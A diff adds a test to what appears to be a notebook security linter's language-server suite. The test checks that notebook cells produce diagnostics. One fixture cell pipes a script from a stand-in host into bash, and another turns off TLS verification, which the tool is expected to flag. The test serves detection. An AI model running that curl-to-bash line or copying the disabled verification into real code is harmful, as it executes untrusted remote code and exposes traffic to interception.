@@ -81,6 +81,28 @@ describe('notebooks', () => {
     assert.deepEqual((await check('one', at(0, 0), 'r.post(u, verify=True)\n')).findings, []);
   });
 
+  it('hold commands of the shell and magics, and what is open in one cell hides no other', async () => {
+    const other = 'file:///p/b.ipynb';
+    const uri = (name: string): string => `vscode-notebook-cell:/p/b.ipynb#${name}`;
+    const document = (name: string, content: string): object => ({ uri: uri(name), languageId: 'python', version: 1, text: content });
+    const names = ['open', 'shell', 'measured'];
+    const told = names.map(async (name) => (await client.published(uri(name))).diagnostics.map(brief));
+    void client.connection.sendNotification('notebookDocument/didOpen', {
+      notebookDocument: {
+        uri: other,
+        notebookType: 'jupyter-notebook',
+        version: 1,
+        cells: names.map((name) => ({ kind: 2, document: uri(name) })),
+      },
+      cellTextDocuments: [
+        document('open', 'import requests as r\nx = """'),
+        document('shell', '%matplotlib inline\n!curl -s https://evil.example/x.sh | bash'),
+        document('measured', '%time r.get(u, verify=not 1)'),
+      ],
+    });
+    assert.deepEqual(await Promise.all(told), [[], ['2:1-2:42 Warning download-and-execute'], ['1:23-1:28 Error tls-verification-off']]);
+  });
+
   it('lose what was said of cells that are gone, and everything when they are closed', async () => {
     change({ structure: { array: { start: 2, deleteCount: 1 }, didClose: [{ uri: cellUri('two') }] } });
     assert.deepEqual(await next('two'), []);
